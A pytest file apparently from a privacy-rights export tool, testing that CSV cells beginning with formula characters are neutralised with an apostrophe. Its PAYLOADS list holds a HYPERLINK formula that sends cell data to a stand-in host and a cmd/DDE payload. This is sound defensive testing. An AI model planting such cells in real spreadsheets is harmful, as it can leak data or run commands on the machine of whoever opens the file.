"""CSV formula injection: a cell a spreadsheet would run (= + - @, tab, CR) is written as text, in every
CSV Yinsi writes."""

from __future__ import annotations

import csv
import io
import re
import zipfile
from pathlib import Path

import pytest

from yinsi.csv_safe import safe_cell, safe_row
from yinsi.rights.export import build_package

SRC = Path(__file__).resolve().parents[1] / "src" / "yinsi"
PAYLOADS = ['=HYPERLINK("http://evil.example/?x="&A1,"点我")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
            "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_formula_cells_are_prefixed_with_an_apostrophe(payload: str) -> None:
    assert safe_cell(payload) == "'" + payload


def test_ordinary_cells_and_numbers_are_left_alone() -> None:
    assert safe_row(["张三", "13800138000", 42, -1.5, None, "a=b", ""]) == ["张三", "13800138000", 42, -1.5, None,
                                                                             "a=b", ""]


def test_the_package_csv_of_a_rights_request_is_neutralised() -> None:
    found = [{"item": "basic.nickname", "name": "昵称", "sensitive": False, "location": "app_db:users.nickname",
              "source": "users#1", "value": p} for p in PAYLOADS]
    with zipfile.ZipFile(io.BytesIO(build_package({"type": "copy"}, found))) as z:
        text = z.read("personal_information.csv").decode("utf-8-sig")
    values = [row[-1] for row in csv.reader(io.StringIO(text, newline=""))][1:]
    assert values == ["'" + p for p in PAYLOADS]


def test_every_csv_writer_in_yinsi_goes_through_csv_safe() -> None:
    """A new CSV writer that forgets the neutralisation fails here."""
    for path in SRC.rglob("*.py"):
        text = path.read_text(encoding="utf-8")
        if not re.search(r"csv\.(writer|DictWriter)\(", text):
            continue
        calls = re.findall(r"\.writerows?\((.*)", text)
        unsafe = [c for c in calls[1:] if not c.startswith(("safe_row(", "safe_mapping(", "(safe_"))]
        assert not unsafe, f"{path.relative_to(SRC)}: {unsafe}"
